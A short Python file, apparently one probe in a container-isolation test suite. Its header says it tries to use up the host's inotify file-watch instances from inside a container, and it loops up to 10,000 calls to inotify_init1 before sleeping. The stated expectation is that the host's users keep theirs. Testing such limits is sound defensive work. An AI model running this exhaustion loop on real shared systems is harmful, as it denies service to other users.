# tries: to use up the watches of files (inotify) of whoever owns the box on the host
# must: the host's users have theirs
# as: user, root
# host: inotify
# needs: range
# runs: background
import time

from attempt import LIBC

for _ in range(10_000):
    if LIBC.inotify_init1(0) < 0:
        break
time.sleep(60)
